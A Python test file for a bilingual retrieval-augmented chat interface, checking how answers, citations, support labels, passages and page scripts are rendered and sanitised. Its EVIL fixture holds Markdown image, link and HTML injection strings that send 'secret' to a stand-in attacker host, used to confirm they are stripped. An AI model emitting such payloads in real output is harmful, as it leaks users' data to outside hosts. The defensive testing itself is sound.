"""What the chat shows: answers and passages as Markdown in which documents' own markup does nothing. No Chainlit."""

import dataclasses
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qianxun.chat.folder import at_home, make_true, offline
from qianxun.chat.history import judged
from qianxun.chat.ids import Place, place_of
from qianxun.chat.panel import chosen, filter_in_words, lost, moved, policies, usable
from qianxun.chat.shown import Streaming, answer_text, as_text, passage_text, report_of, view_address
from qianxun.chat.talk import AS_SET, NOBODY, how, source_address
from qianxun.client.records import BaseSummary
from qianxun.errors import NotFound
from qianxun.marking import known_by
from qianxun.messages import say, speaking
from qianxun.records import Answer, Citation, Conflict, Passage, Span, Stated, Statement
from qianxun.retrieval.filter_language import parse_filter


def passage(text: str = "一类城市住宿限额为每晚 650 元，凭票报销。", *, start: int = 100) -> Passage:
    return Passage(
        rank=1,
        score=0.5,
        chunk=83886082,
        document=5,
        source="制度/费用报销.md",
        title="费用报销制度",
        page=3,
        location=None,
        heading=("费用报销制度", "2. 住宿"),
        span=Span(start, start + len(text)),
        text=text,
        context="",
        labels=("public",),
        stages={},
    )


def citation(number: int, quote: str = "每晚 650 元", *, chunk: int = 83886082) -> Citation:
    return Citation(
        number=number,
        chunk=chunk,
        document=5,
        source="制度/费用报销.md",
        title="费用报销制度",
        page=3,
        location=None,
        heading=(),
        span=Span(109, 117),
        quote=quote,
        support="supported",
        sentence="",
        statement=0,
    )


def answer(text: str, statements: tuple[Statement, ...] = (), **more: object) -> Answer:
    given = Answer(
        question="住宿限额？",
        text=text,
        verdict="answered",
        citations=(citation(1),),
        passages=(passage(),),
        seconds={"total": 0.1},
        models={},
        degraded=(),
        notes=(),
        statements=statements,
    )
    return dataclasses.replace(given, **more)  # type: ignore[arg-type]


def statement(text: str, whole: str, support: str, **more: object) -> Statement:
    start = whole.index(text)
    made = Statement(text, Span(start, start + len(text)), (1,), support, None)  # type: ignore[arg-type]
    return dataclasses.replace(made, **more)  # type: ignore[arg-type]


def test_what_bears_a_sentence_little_is_said_behind_its_marks() -> None:
    text = "每晚 650 元。[1][2]餐補每天 120 元。[3] Breakfast is free."
    sentences = (
        statement("每晚 650 元。", text, "supported"),
        statement("餐補每天 120 元。", text, "weak"),
        statement("Breakfast is free.", text, "absent"),
    )
    with speaking("zh"):
        assert answer_text(answer(text, sentences)) == (
            "每晚 650 元。[1][2]餐補每天 120 元。[3]〔依据较弱〕 Breakfast is free.〔无依据〕"
        )
    with speaking("en"):
        assert "[3]〔weakly supported〕" in answer_text(answer(text, sentences))


def test_in_a_table_it_is_said_in_the_last_cell() -> None:
    rows = ["| 一類 | ６５０ [1] |", "| Tier 2 | 480 |", "| 三类 | 300 |"]
    text = "\n".join(["| 城市 | Limit |", "|---|---|", *rows]) + "\n餐補另計。"
    sentences = [
        statement(row, text, support) for row, support in zip(rows, ("weak", "absent", "supported"), strict=True)
    ]
    with speaking("zh"):
        lines = answer_text(answer(text, (*sentences, statement("餐補另計。", text, "absent")))).split("\n")
    assert lines[:2] == text.split("\n")[:2]
    assert lines[2:5] == ["| 一類 | ６５０ [1] 〔依据较弱〕|", "| Tier 2 | 480 〔无依据〕|", "| 三类 | 300 |"]
    assert lines[5] == "餐補另計。〔无依据〕"


def test_what_only_leads_in_and_what_a_persona_says_of_itself_needs_no_support() -> None:
    text = "如下：我是小千。"
    sentences = (
        statement("如下：", text, "absent", claim=False),
        statement("我是小千。", text, "absent", own=True),
    )
    assert answer_text(answer(text, sentences)) == text


@pytest.mark.parametrize("verdict", ["partial", "ungrounded", "clarify"])
def test_an_answer_that_is_not_simply_borne_says_so(verdict: str) -> None:
    shown = answer_text(answer("也许。", verdict=verdict))
    assert shown.startswith("也许。\n\n> ")


@pytest.mark.parametrize("degraded", [("generator: The model failed.",), ("lexical", "generator")])
@pytest.mark.parametrize(
    ("language", "quotes", "nothing"),
    [
        ("zh", "模型没有作答，以下是从文档中摘引的原文。", "模型没有作答，摘引原文也没有找到依据，请稍后重新提问。"),
        (
            "en",
            "The model did not answer: these are quotations from the documents.",
            "The model did not answer, and quoting found nothing: ask again later.",
        ),
    ],
)
def test_that_no_model_wrote_an_answer_is_said_above_it(
    degraded: tuple[str, ...], language: str, quotes: str, nothing: str
) -> None:
    with speaking(language):
        assert answer_text(answer("每晚 ６５０ 元。[1]", degraded=degraded)) == f"> {quotes}\n\n每晚 ６５０ 元。[1]"
        found = answer_text(answer("沒有找到。Nothing.", degraded=degraded, verdict="no_evidence"))
        assert found == f"> {nothing}\n\n沒有找到。Nothing."
        assert quotes not in answer_text(answer("每晚 650 元。[1]", degraded=("reranker: It failed.",)))


@pytest.mark.parametrize(
    ("reason", "zh", "en"),
    [
        ("length", "这个回答达到长度上限，没有写完。", "This answer reached its length limit before its end."),
        ("time", "这个回答超过时间上限，没有写完。", "This answer ran out of time before its end."),
        ("repetition", "这个回答开始重复同样的话，已被中止。", "This answer began to repeat itself and was stopped."),
        ("cancelled", "这个回答被中止了。", "This answer was stopped."),
    ],
)
def test_an_answer_that_is_not_finished_says_why(reason: str, zh: str, en: str) -> None:
    for language, words in {"zh": zh, "en": en}.items():
        with speaking(language):
            assert answer_text(answer("餐補每天", finish_reason=reason)) == f"餐補每天\n\n> {words}"
    assert answer_text(answer("餐補每天 120 元。")) == "餐補每天 120 元。"


def test_an_answer_that_was_stopped_before_its_first_word_says_so_once() -> None:
    said = answer("回答还没有写出任何内容就结束了。", finish_reason="cancelled", verdict="no_evidence", citations=())
    with speaking("zh"):
        assert answer_text(said) == "这个回答被中止了。"


def test_sources_that_disagree_are_listed_with_their_numbers() -> None:
    values = (
        Stated("650 元", (citation(1), citation(2), citation(1)), "2025"),
        Stated("*600* 元", (citation(3),), None),
    )
    shown = answer_text(answer("650 元。[1]", conflicts=(Conflict(values),)))
    assert "- 650 元 (2025) [1][2]\n- \\*600\\* 元 [3]" in shown


EVIL = "![x](https://evil.example/?q=secret) [点这里](https://evil.example/a) <img src=https://evil.example/b>"


def test_what_an_answer_took_is_told_in_the_readers_language() -> None:
    given = answer(
        "年假十天。",
        seconds={"understand": 0.012, "lexical": 0.2, "graph *x*": 0.5, "generate": 1.5, "total": 2.3},
        models={"encoder": "Qwen3-Embedding-0.6B", "answer": "extractive", "prompt": "answer.zh.3"},
        degraded=("generator: The model failed.", "tantivy: 3 changes behind"),
    )
    with speaking("zh"):
        assert report_of(given) == [
            "- 分析问题：0.01 秒\n- 按词检索：0.20 秒\n- graph \\*x\\*：0.50 秒\n- 撰写回答：1.50 秒",
            "- 编码器：Qwen3\\-Embedding\\-0\\.6B\n- 回答模型：摘引原文",
            "- 已省略：回答模型。The model failed\\.\n- 文档的最新改动（3 处）尚未纳入搜索。",
        ]
    with speaking("en"):
        assert report_of(given)[1] == "- encoder: Qwen3\\-Embedding\\-0\\.6B\n- answering model: quoting"


@pytest.mark.parametrize(
    ("language", "words"),
    [("zh", "- 实际搜索：報銷 limit（二類城市）？"), ("en", "- Searched for\\: 報銷 limit（二類城市）？")],
)
def test_what_was_remarked_is_told_in_the_readers_language_and_what_took_no_time_is_not(
    language: str, words: str
) -> None:
    spent = {"filter": 0.0, "understand": 0.0049, "dense": 0.005, "total": 0.01}
    given = answer("年假十天。", seconds=spent, notes=("Searched for: 報銷 limit（二類城市）？",))
    with speaking(language):
        stages, remarks = report_of(given)
    assert remarks == words
    assert stages.count("\n") == 0
    assert "0.01" in stages


def test_an_answer_links_to_nothing_that_its_passages_have_not() -> None:
    shown = answer_text(
        answer(f"见 https://intra.example/a 。{EVIL}", passages=(passage("见 https://intra.example/a"),))
    )
    assert "https://intra.example/a" in shown
    assert "https://evil" not in shown
    assert "![" not in shown
    assert "<img" not in shown


@given(st.lists(st.sampled_from([*EVIL, "每晚", " 650 元。", "[1]", "\n"]), max_size=200), st.integers(1, 9))
def test_a_stream_is_as_safe_as_its_whole_text_at_every_moment(pieces: list[str], size: int) -> None:
    text = "".join(pieces)
    streaming, page = Streaming(), ""
    for at in range(0, len(text), size):
        shown, anew = streaming.add(text[at : at + size])
        page = shown if anew else page + shown
        assert "![" not in page or "](" not in page
        assert "https://evil" not in page


def test_a_plain_stream_is_told_piece_by_piece() -> None:
    streaming = Streaming()
    assert [streaming.add(piece) for piece in ("每晚 ", "650 元。", "[1]")] == [
        ("每晚 ", False),
        ("650 元。", False),
        ("[1]", False),
    ]
    streaming.clear()
    assert streaming.add("重来") == ("重来", False)


def test_a_passage_shows_its_quote_marked_and_where_it_stands() -> None:
    with speaking("zh"):
        shown = passage_text(passage(), [(109, 117)], "/view/default/5?from=109&to=117")
    assert "**费用报销制度** · 第 3 页 · 费用报销制度 › 2\\. 住宿" in shown
    assert "> 每晚 650 元" in shown
    assert shown.endswith("[在文档中打开此处](/view/default/5?from=109&to=117)")


def test_a_passage_shows_all_that_is_cited_of_it_marked() -> None:
    text = "每晚 650 元。憑票報銷。Ｂreakfast is free. 餐補另計。"
    spans = [(text.index("Ｂ"), text.index(" 餐補")), (0, 9), (5, text.index("憑")), (500, 600)]
    with speaking("zh"):
        shown = passage_text(passage(text, start=0), spans, "/view", "有一部分已移除。")
    assert shown.split("\n\n")[2:] == [
        "> 每晚 650 元。  ",
        "憑票報銷。",
        "> Ｂreakfast is free\\.  ",
        "餐補另計。",
        "有一部分已移除。",
        "[在文档中打开此处](/view)",
    ]


def test_rows_of_a_table_stand_without_its_frame() -> None:
    table = "限额如下。\n\n| 城市 | City |\n| --- | :--: |\n| 一類 | ６５０ |\n| 二类 | 480 |\n\n餐補另計。"
    start = table.index("| 二类")
    shown = passage_text(passage(table, start=0), [(start, table.index("\n\n餐補"))], "/view")
    assert "---" not in shown
    assert "城市 \\| City  \n一類 \\| ６５０" in shown
    assert "> 二类 \\| 480" in shown
    assert "限额如下。  \n\n城市" in shown


def test_a_passage_without_its_quote_is_shown_whole() -> None:
    shown = passage_text(passage(), [(5000, 5010)], "/view")
    assert "650" in shown
    assert "> " not in shown


@given(st.text(st.sampled_from("ab中，。!*_`[]()<>#&|~$\\:-+.=^{}1 "), max_size=60))
def test_text_of_documents_is_no_markup(text: str) -> None:
    shown = as_text(text)
    assert "".join(shown[1::2]) == shown[1::2]
    bare = shown.replace("\\\\", "")
    for sign in "*_`[]<>#|~$":
        assert f"\\{sign}" in bare or sign not in bare


def test_addresses_say_where() -> None:
    assert view_address("http://x", "知识 库", 5, 1, 2) == (
        "http://x/view/%E7%9F%A5%E8%AF%86%20%E5%BA%93/5?from=1&to=2#cited"
    )
    assert source_address("default", [citation(1)]) == (
        f"/chat/source/default/83886082?from=109&to=117&words={known_by('每晚650元')}"
    )
    assert source_address("default", [citation(1)], "a.1a.b").endswith("&of=a.1a.b")
    twice = [citation(1), dataclasses.replace(citation(1), span=Span(118, 123), quote="凭票报销。"), citation(1)]
    assert source_address("default", twice) == (
        f"/chat/source/default/83886082?from=109&to=117&words={known_by('每晚650元')}"
        f"&from=118&to=123&words={known_by('凭票报销。')}"
    )


def test_names_of_answers_say_where_they_are() -> None:
    for place in (Place("知识.库-1", "0" * 32), Place("b", "f" * 32, 12, "a"), Place("b", "f" * 32, 3, "q")):
        assert place_of(place.id) == place
    for wrong in ("", "x", "0" * 32, f"{'0' * 32}.", "3f0c1a9e-0000-4000-8000-000000000000", f"{'0' * 32}.0a.b/../c"):
        with pytest.raises(NotFound):
            place_of(wrong)


def test_a_thumb_is_about_what_is_cited_else_about_what_was_read() -> None:
    assert judged(answer("a", citations=(citation(2, chunk=7), citation(0, chunk=8), citation(1, chunk=7)))) == [7]
    assert judged(answer("a", citations=())) == [83886082]


@pytest.mark.parametrize("verdict", ["no_evidence", "clarify"])
def test_a_thumb_on_an_answer_that_found_nothing_is_about_no_passage(verdict: str) -> None:
    assert judged(answer("沒有找到。Nothing found.", citations=(), verdict=verdict)) == []


def test_files_of_a_conversation_are_not_what_a_thumb_is_about() -> None:
    own = f"conversation:{'b8' * 16}/保修 報告.md"
    sent = dataclasses.replace(citation(1, chunk=218103808), source=own)
    assert judged(answer("37 个月。[1][2]", citations=(sent, citation(2, chunk=7)))) == [7]
    assert judged(answer("37 个月。[1]", citations=(sent,))) == []
    read = dataclasses.replace(passage(), chunk=218103808, source=own)
    assert judged(answer("37 months.", citations=(), passages=(read, passage()))) == [83886082]


def test_settings_of_the_page_become_what_is_asked() -> None:
    assert how({}) == {}
    assert how({"persona": AS_SET, "filter": "  ", "deep": 0}) == {}
    assert how({"persona": NOBODY, "filter": " label = hr ", "deep": 3}) == {
        "persona": "",
        "filter": "label = hr",
        "deep": 3,
    }
    assert how({"persona": "客服"}) == {"persona": "客服"}


@pytest.mark.parametrize(
    ("settings", "options"),
    [
        ({"unsupported": AS_SET, "passages": 0, "context_tokens": 0, "instructions": " \u3000\n"}, None),
        ({"unsupported": None, "passages": None, "context_tokens": "", "instructions": None}, None),
        ({"unsupported": "refuse"}, {"unsupported": "refuse"}),
        ({"passages": 3.0}, {"passages": 3}),
        ({"context_tokens": "2000"}, {"context_tokens": 2000}),
        ({"context_tokens": "2000.0"}, {"context_tokens": 2000}),
        ({"context_tokens": -5}, {"context_tokens": -5}),  # the service says what it may be
        ({"instructions": " 請分三點，Ｏｋ？\nBe brief.\n"}, {"instructions": "請分三點，Ｏｋ？\nBe brief."}),
    ],
)
def test_what_the_page_says_of_the_answer_becomes_its_options(
    settings: dict[str, Any], options: dict[str, Any] | None
) -> None:
    assert how(settings) == ({} if options is None else {"options": options})


@pytest.mark.parametrize(("language", "words"), [("zh", "且"), ("en", "and")])
def test_the_panel_says_itself_what_may_be_written_of_documents(language: str, words: str) -> None:
    with speaking(language):
        said = filter_in_words()
        example = say("label = hr and modified >= 2025-01-01")
    assert "docs/" not in said
    assert f" {words} " in example
    assert example in said
    assert language == "en" or f"例如：{example}" in said
    parse_filter(example)
    for field in ("source", "title", "format", "label", "modified"):
        assert field in said


def test_no_more_may_be_chosen_than_with_the_persona_that_is_chosen() -> None:
    allowed = {"": ("mark", "remove", "refuse"), "严谨": ("remove", "refuse"), "strict": ("refuse",)}
    base = BaseSummary("default", 3, ("strict", "严谨"), "严谨", 0, allowed)  # type: ignore[arg-type]
    assert policies(base, {}) == policies(base, {"persona": AS_SET}) == policies(base, {"persona": None})
    assert policies(base, {"persona": AS_SET}) == ("remove", "refuse")
    assert policies(base, {"persona": NOBODY}) == ("mark", "remove", "refuse")
    assert policies(base, {"persona": "strict"}) == ("refuse",)
    assert policies(base, {"persona": "gone"}) == ()
    assert not moved(base, {}, {"persona": "严谨", "filter": "x"})
    assert moved(base, {"persona": "严谨"}, {"persona": NOBODY})


BASE = BaseSummary("default", 3, ("strict", "严谨"), "", 40, {"": ("mark", "remove", "refuse"), "严谨": ("refuse",)})
CHOSEN = {
    "persona": "严谨",
    "filter": "label = 人事",
    "unsupported": "refuse",
    "instructions": " 請分三點。Be brief. ",
    "deep": 3,
    "passages": 5,
    "context_tokens": 2000,
}


def test_of_what_a_page_says_only_what_was_chosen_is_kept() -> None:
    page = {"persona": AS_SET, "filter": " ", "unsupported": AS_SET, "instructions": "", "deep": 0, "passages": None}
    assert chosen(page | {"context_tokens": ""}) == {}
    assert chosen(CHOSEN | {"deep": 3.0, "context_tokens": "2000", "else": [1]}) == CHOSEN
    assert chosen({"persona": NOBODY}) == {"persona": NOBODY}
    assert usable(BASE, CHOSEN) == CHOSEN
    assert how(usable(BASE, CHOSEN)) == how(CHOSEN)
    assert lost(CHOSEN, CHOSEN) == []


@pytest.mark.parametrize(
    "kept",
    [
        None,
        [],
        "persona",
        7,
        {"persona": ["严谨"], "filter": {"label": "hr"}, "unsupported": 3, "instructions": None},
        {"deep": "很多", "passages": True, "context_tokens": [2000]},
        {"deep": float("nan"), "passages": float("inf"), "context_tokens": "9" * 500},
        {"deep": 10**400, "passages": {"n": 1}, "unsupported": {}, "persona": {"a": 1}},
    ],
    ids=repr,
)
def test_what_is_read_back_and_was_never_set_here_is_as_set_for_everybody(kept: object) -> None:
    assert usable(BASE, kept) == {}
    assert how(usable(BASE, kept)) == {}
    assert lost(kept, {}) == []


@pytest.mark.parametrize(
    ("name", "value", "label"),
    [
        ("persona", "已删除", "角色"),
        ("unsupported", "mark", "没有依据的句子"),
        ("unsupported", "whatever", "没有依据的句子"),
        ("instructions", "長" * 41, "自定义指令"),
        ("deep", 11, "拆分问题"),
        ("deep", -1, "拆分问题"),
        ("passages", 101, "段落数"),
        ("context_tokens", 7, "上下文长度"),
        ("context_tokens", 10**9, "上下文长度"),
    ],
)
def test_what_may_not_be_set_any_more_is_as_set_for_everybody_and_named(name: str, value: object, label: str) -> None:
    kept = CHOSEN | {name: value}
    found = usable(BASE, kept)
    assert found == {key: one for key, one in CHOSEN.items() if key != name}
    with speaking("zh"):
        assert lost(kept, found) == [label]


def test_the_page_is_left_without_anything_from_elsewhere() -> None:
    page = """<head><link rel="preconnect" href="https://fonts.gstatic.com" crossorigin />
    <link
      href="https://fonts.googleapis.com/css2?family=Inter"
      rel="stylesheet"
    />
    <!-- JS INJECTION PLACEHOLDER -->
    <script>
      const global = globalThis;
    </script>
    <script type="module" crossorigin src="/assets/index.js"></script>
    <link rel="stylesheet" crossorigin href="/assets/index.css"></head><body><div id="root"></div></body>"""
    shown = offline(page)
    assert "https:" not in shown
    assert "const global" not in shown
    assert '<script src="/public/qianxun.js"></script>' in shown
    assert "/assets/index.js" in shown
    assert "/assets/index.css" in shown
    # Who has no scripts is told, in both languages.
    without = shown.partition("<noscript>")[2].partition("</noscript>")[0]
    assert "需要 JavaScript" in without
    assert "needs JavaScript" in without
    assert '</noscript><div id="root">' in shown


def test_what_the_script_says_in_english_only_is_chinese_for_who_reads_chinese() -> None:
    script = (
        'f("span",{className:"sr-only",children:"Close"});({error:r="Failed to load PDF file.",title:"Elsewhere"});'
        '["Class","Close"];t(`File is larger than ${r.max_size_mb} MB`)'
    )
    assert at_home(script) == (
        'f("span",{className:"sr-only",children:(navigator.language==="zh-CN"?"关闭":"Close")});'
        '({error:r=(navigator.language==="zh-CN"?"无法读取该 PDF 文件。":"Failed to load PDF file."),'
        'title:"Elsewhere"});'
        '["Class","Close"];t((navigator.language==="zh-CN"?`文件超过 ${r.max_size_mb} MB。`:'
        "`File is larger than ${r.max_size_mb} MB`))"
    )


@pytest.mark.parametrize(("is_chinese", "said"), [(True, "将开始新的对话。"), (False, "A new conversation begins.")])
def test_nobody_is_told_that_a_conversation_is_cleared(is_chinese: bool, said: str) -> None:
    asked = {"description": "这将清除您当前的聊天记录。 This will clear your current chat history."}
    words: dict[str, Any] = {"chat": {"messages": {"status": {}}}, "navigation": {"newChat": {"dialog": asked}}}
    make_true(words, is_chinese=is_chinese)
    assert asked["description"].startswith(said)


def test_the_script_finds_its_page_and_opens_what_is_cited_by_a_click_only() -> None:
    script = (
        'u.pathname=u.pathname==="/"?n:w;new URL(window.location.href);A.pathname==="/"&&t(i);'
        'const D=r.filter(V=>V.display==="side");if(D.length===0){u(void 0);return}'
        'Q.error("Couldn\'t resume chat: "+s);'
        "await t.logout(),e(void 0),r&&window.location.reload();"
        "const n=(t==null?void 0:t.display_name)||(t==null?void 0:t.identifier);"
        'new URL("/assets/pdf.worker.min-x.mjs",u);'
        'f(I,{path:"navigation.user.menu.logout"})'
        "super(e),this.status=n,this.detail=r}toString(){"
        "return this.detail?`${this.message}: ${this.detail}`:this.message}"
        "await fetch(this.buildEndpoint(e),{method:t})}catch(i){throw this.handleRequestError(i),i}"
        "W=({message:t,actions:e,run:n,contentRef:r})=>f({children:[l?f.jsx(P,{content:t.output}):null,"
        "n?f.jsx(K,{message:n}):null]})"
    )
    assert at_home(script) == (
        'u.pathname=u.pathname==="/"?n:w;new URL(window.location.href);A.pathname.replace(/\\/$/,"")==="/chat"&&t(i);'
        'const D=r.filter(V=>V.display==="side");if(!0||D.length===0){u(void 0);return}'
        'Q.error(s);await t.logout(),e(void 0),r&&window.location.assign("/chat/sign-in");'
        "const n=(t==null?void 0:t.display_name)||(t==null?void 0:t.identifier);"
        'new URL("/chat/assets/pdf.worker.min-x.mjs",u);'
        'f(I,{path:t.identifier==="public"?"auth.login.form.actions.signin":"navigation.user.menu.logout"})'
        "super(r||e),this.status=n,this.detail=r}toString(){return this.message}"
        'await fetch(this.buildEndpoint(e),{method:t})}catch(i){throw e==="/feedback"&&i.status!==401||'
        "this.handleRequestError(i),i}"
        "W=({message:t,actions:e,run:n,contentRef:r})=>f({children:[l?f.jsx(P,{content:t.output}):null,"
        "n&&!t.isError&&(t.metadata||{}).thumbs!==!1?f.jsx(K,{message:n}):null]})"
    )
